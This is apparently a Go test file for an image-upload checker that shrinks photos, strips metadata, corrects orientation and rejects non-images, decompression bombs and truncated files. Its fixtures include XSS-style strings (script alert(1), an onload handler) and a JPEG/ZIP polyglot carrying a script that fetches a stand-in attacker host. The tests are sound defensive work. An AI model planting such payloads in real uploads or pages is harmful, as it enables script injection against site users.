package photo

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"image"
	"image/color"
	"image/jpeg"
	"io"
	"runtime"
	"slices"
	"testing"

	"giahan/media"
)

func TestPictureIsShrunkAndCleaned(t *testing.T) {
	in := withExif(asJPEG(t, scene(2400, 1800)), tiff(binary.BigEndian, 1))
	p, err := Check(t.Context(), in, media.HealthCertificate)
	if err != nil {
		t.Fatal(err)
	}
	if p.Width != 1600 || p.Height != 1200 {
		t.Errorf("stored %d x %d, want 1600 x 1200", p.Width, p.Height)
	}
	for _, b := range [][]byte{p.JPEG, p.Thumbnail} {
		if bytes.Contains(b, []byte("SECRET")) || bytes.Contains(b, []byte("Exif")) {
			t.Error("metadata survived")
		}
	}
	thumb, err := jpeg.DecodeConfig(bytes.NewReader(p.Thumbnail))
	if err != nil || thumb.Width != 320 || thumb.Height != 240 {
		t.Errorf("thumbnail %d x %d, %v", thumb.Width, thumb.Height, err)
	}
	if len(p.Verdicts) != 0 {
		t.Errorf("verdicts %v for a good picture", p.Verdicts)
	}
}

func TestSmallPictureIsNotEnlarged(t *testing.T) {
	p, err := Check(t.Context(), asPNG(t, scene(640, 400)), media.HealthCertificate)
	if err != nil || p.Width != 640 || p.Height != 400 {
		t.Fatalf("%d x %d, %v", p.Width, p.Height, err)
	}
}

// A camera writes each orientation as the inverse of what upright does.
func TestEveryOrientationEndsUpright(t *testing.T) {
	want := scene(800, 600)
	inverse := map[int]int{1: 1, 2: 2, 3: 3, 4: 4, 5: 5, 6: 8, 7: 7, 8: 6}
	for o := 1; o <= 8; o++ {
		stored := upright(want, inverse[o])
		for name, in := range map[string][]byte{
			"jpeg, little endian": withExif(asJPEG(t, stored), tiff(binary.LittleEndian, uint16(o))),
			"jpeg, big endian":    withExif(asJPEG(t, stored), tiff(binary.BigEndian, uint16(o))),
			"png":                 withEXIF(asPNG(t, stored), tiff(binary.BigEndian, uint16(o))),
		} {
			p, err := Check(t.Context(), in, media.HealthCertificate)
			if err != nil {
				t.Fatalf("%s %d: %v", name, o, err)
			}
			got, err := jpeg.Decode(bytes.NewReader(p.JPEG))
			if err != nil {
				t.Fatal(err)
			}
			if d := distance(got, want); d > 4 {
				t.Errorf("%s, orientation %d: mean difference %.1f of 255", name, o, d)
			}
		}
	}
}

// distance is the mean difference of luma on a grid, 255 if the sizes differ.
func distance(a, b image.Image) float64 {
	if a.Bounds().Size() != b.Bounds().Size() {
		return 255
	}
	sum, n := 0.0, 0
	for y := 4; y < a.Bounds().Dy(); y += 8 {
		for x := 4; x < a.Bounds().Dx(); x += 8 {
			ga := color.GrayModel.Convert(a.At(x, y)).(color.Gray).Y
			gb := color.GrayModel.Convert(b.At(x, y)).(color.Gray).Y
			sum += max(float64(ga)-float64(gb), float64(gb)-float64(ga))
			n++
		}
	}
	return sum / float64(n)
}

func TestTransparentPartsBecomeWhite(t *testing.T) {
	img := image.NewNRGBA(image.Rect(0, 0, 400, 400)) // wholly transparent
	p, err := Check(t.Context(), asPNG(t, img), media.HealthCertificate)
	if err != nil {
		t.Fatal(err)
	}
	got, err := jpeg.Decode(bytes.NewReader(p.JPEG))
	if err != nil {
		t.Fatal(err)
	}
	if r, _, _, _ := got.At(200, 200).RGBA(); r>>8 < 250 {
		t.Errorf("transparent became %d, want white", r>>8)
	}
}

func TestEveryColourModelIsRead(t *testing.T) {
	src := scene(320, 320)
	for name, dst := range map[string]interface {
		image.Image
		Set(x, y int, c color.Color)
	}{
		"grey":     image.NewGray(src.Rect),
		"grey 16":  image.NewGray16(src.Rect),
		"rgba 64":  image.NewNRGBA64(src.Rect),
		"rgba":     image.NewRGBA(src.Rect),
		"paletted": image.NewPaletted(src.Rect, color.Palette{color.Black, color.White, color.NRGBA{200, 40, 40, 255}, color.Transparent}),
	} {
		for y := range 320 {
			for x := range 320 {
				dst.Set(x, y, src.At(x, y))
			}
		}
		if _, err := Check(t.Context(), asPNG(t, dst), media.HealthCertificate); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// An index beyond the palette kills the process inside imaging; here it is white.
func TestPaletteIndexOutOfRange(t *testing.T) {
	p := image.NewPaletted(image.Rect(0, 0, 2, 1), color.Palette{color.Black})
	p.Pix[1] = 200
	out := blocks(p, p.Rect, 1)
	if !slices.Equal(out.Pix, []byte{0, 0, 0, 255, 255, 255, 255, 255}) {
		t.Errorf("pixels %v", out.Pix)
	}
}

func TestRefused(t *testing.T) {
	good := asJPEG(t, scene(640, 480))
	wholePNG := asPNG(t, scene(400, 400))
	mismatch := slices.Clone(wholePNG)
	binary.BigEndian.PutUint32(mismatch[16:], 39_000_000) // width without its checksum
	for _, c := range []struct {
		name string
		in   []byte
		want error
	}{
		{"nothing", nil, media.ErrNoFile},
		{"one byte too many", make([]byte, media.MaxBytes+1), media.ErrTooBig},
		{"text", []byte("hello, this is no picture at all"), media.ErrType},
		{"html", []byte("<html><script>alert(1)</script>"), media.ErrType},
		{"svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg"/>`), media.ErrType},
		{"pdf", []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), media.ErrType},
		{"gif", []byte("GIF89a\x01\x00\x01\x00\x80\x00\x00"), media.ErrType},
		{"gif before a jpeg", append([]byte("GIF89a/*"), good...), media.ErrType},
		{"tiff", []byte("II*\x00\x08\x00\x00\x00"), media.ErrType},
		{"bmp", []byte("BM\x00\x00\x00\x00\x00\x00\x00\x00"), media.ErrType},
		{"heic", []byte("\x00\x00\x00\x24ftypheic\x00\x00\x00\x00mif1"), media.ErrType},
		{"three bytes of jpeg", []byte("\xff\xd8\xff"), media.ErrUnreadable},
		{"truncated jpeg", good[:len(good)/2], media.ErrUnreadable},
		{"truncated png", wholePNG[:len(wholePNG)-100], media.ErrUnreadable},
		{"jpeg start before html", []byte("\xff\xd8\xff\xe0<html><body onload=alert(1)>"), media.ErrUnreadable},
		{"png of 50000 x 50000", pngHeader(50000, 50000, 8, 6), media.ErrDimensions},
		{"png of 12000 x 12000, 16 bit", pngHeader(12000, 12000, 16, 6), media.ErrDimensions},
		{"png, one side too long", pngHeader(12001, 400, 8, 2), media.ErrDimensions},
		{"png too small", pngHeader(299, 4000, 8, 2), media.ErrDimensions},
		{"png within limits, no content", pngHeader(4500, 4500, 8, 6), media.ErrUnreadable},
		{"png within its pixels, not within its memory", pngHeader(6000, 6000, 8, 6), media.ErrDimensions},
		{"png with changed header", mismatch, media.ErrUnreadable},
		{"webp too small", []byte(tinyWebP), media.ErrDimensions},
		{"webp of 16384 x 16384", []byte(hugeWebP), media.ErrDimensions},
	} {
		if _, err := Check(t.Context(), c.in, media.Portrait); !errors.Is(err, c.want) {
			t.Errorf("%s: %v, want %v", c.name, err, c.want)
		}
	}
}

// A bomb is refused from its header: no allocation that grows with what it declares.
func TestBombsCostNothing(t *testing.T) {
	for _, bomb := range [][]byte{pngHeader(50000, 50000, 8, 6), pngHeader(1<<31-1, 1<<31-1, 16, 6), []byte(hugeWebP)} {
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		if _, err := Check(t.Context(), bomb, media.Portrait); err == nil {
			t.Error("accepted")
		}
		runtime.ReadMemStats(&after)
		if got := after.TotalAlloc - before.TotalAlloc; got > 100_000 {
			t.Errorf("%d bytes for a refusal", got)
		}
	}
}

// What follows the end of a picture, or hides in a comment, does not come out again.
func TestPolyglotLosesItsOtherHalf(t *testing.T) {
	payload := []byte("<script>fetch('//evil.example')</script>")
	comment := append([]byte{0xff, 0xfe, 0, byte(2 + len(payload))}, payload...)
	good := asJPEG(t, scene(640, 480))
	in := slices.Concat(good[:2], comment, good[2:], payload, []byte("PK\x03\x04"))
	p, err := Check(t.Context(), in, media.HealthCertificate)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(p.JPEG, []byte("script")) || bytes.Contains(p.JPEG, []byte("PK\x03\x04")) {
		t.Error("payload survived")
	}
}

func TestContextEndsTheWork(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	_, err := Check(ctx, asJPEG(t, scene(640, 480)), media.Portrait)
	if !errors.Is(err, context.Canceled) || errors.Is(err, media.ErrUnreadable) {
		t.Errorf("%v, want the context's error", err)
	}
}

func TestSameBytesSameSum(t *testing.T) {
	in := asJPEG(t, scene(640, 480))
	a, errA := Check(t.Context(), in, media.Portrait)
	b, errB := Check(t.Context(), in, media.Portrait)
	if errA != nil || errB != nil || a.SHA256 != b.SHA256 {
		t.Errorf("sums differ: %v %v", errA, errB)
	}
}

// A decoder that goes on reading for ever is stopped between two reads, also when its time is up in the middle.
func TestDecoderIsStopped(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	reads := 0
	endless := func(r io.Reader) (image.Image, error) {
		for {
			reads++
			if reads == 3 {
				cancel()
			}
			if _, err := r.Read(make([]byte, 1)); err != nil {
				return nil, err
			}
		}
	}
	_, err := decode(ctx, make([]byte, 100), header{format: format{name: "endless", decode: endless}})
	if !errors.Is(err, context.Canceled) || reads != 3 {
		t.Errorf("%v after %d reads", err, reads)
	}
}

func TestDecoderThatPanicsIsAnUnreadablePicture(t *testing.T) {
	f := format{name: "bad", decode: func(io.Reader) (image.Image, error) { panic("index out of range") }}
	if _, err := decode(t.Context(), []byte("x"), header{format: f}); !errors.Is(err, media.ErrUnreadable) {
		t.Errorf("%v", err)
	}
}

func TestDecoderMustKeepItsHeadersWord(t *testing.T) {
	f := format{name: "liar", decode: func(io.Reader) (image.Image, error) { return scene(400, 400), nil }}
	if _, err := decode(t.Context(), []byte("x"), header{format: f, width: 400, height: 300}); !errors.Is(err, media.ErrUnreadable) {
		t.Errorf("%v", err)
	}
}

// The short way for JPEG gives what the long way gives, for every way of sharing colours.
func TestBlocksOfYCbCr(t *testing.T) {
	for _, ratio := range []image.YCbCrSubsampleRatio{image.YCbCrSubsampleRatio444, image.YCbCrSubsampleRatio422, image.YCbCrSubsampleRatio420,
		image.YCbCrSubsampleRatio440, image.YCbCrSubsampleRatio411, image.YCbCrSubsampleRatio410} {
		src := image.NewYCbCr(image.Rect(0, 0, 233, 187), ratio)
		for y := range 187 {
			for x := range 233 {
				src.Y[src.YOffset(x, y)] = uint8(40 + x/2 + (x*y)%50)
				src.Cb[src.COffset(x, y)], src.Cr[src.COffset(x, y)] = uint8(60+y/2), uint8(200-x/2)
			}
		}
		whole := image.NewNRGBA(src.Rect)
		for i := range whole.Pix {
			whole.Pix[i] = 255
		}
		strip(&image.RGBA{Pix: whole.Pix, Stride: whole.Stride, Rect: whole.Rect}, src, image.Point{})
		for _, f := range []int{2, 3, 4, 7} {
			for _, part := range []image.Rectangle{image.Rect(5, 3, 230, 180), src.Rect, image.Rect(219, 173, 233, 187)} { // the last: two rows for many cores
				got, want := blocks(src, part, f), blocks(whole, part, f)
				if d := distance(got, want); got.Rect != want.Rect || d > 3 {
					t.Errorf("%v by %d, %v: mean difference %.1f", ratio, f, part, d)
				}
			}
		}
	}
}
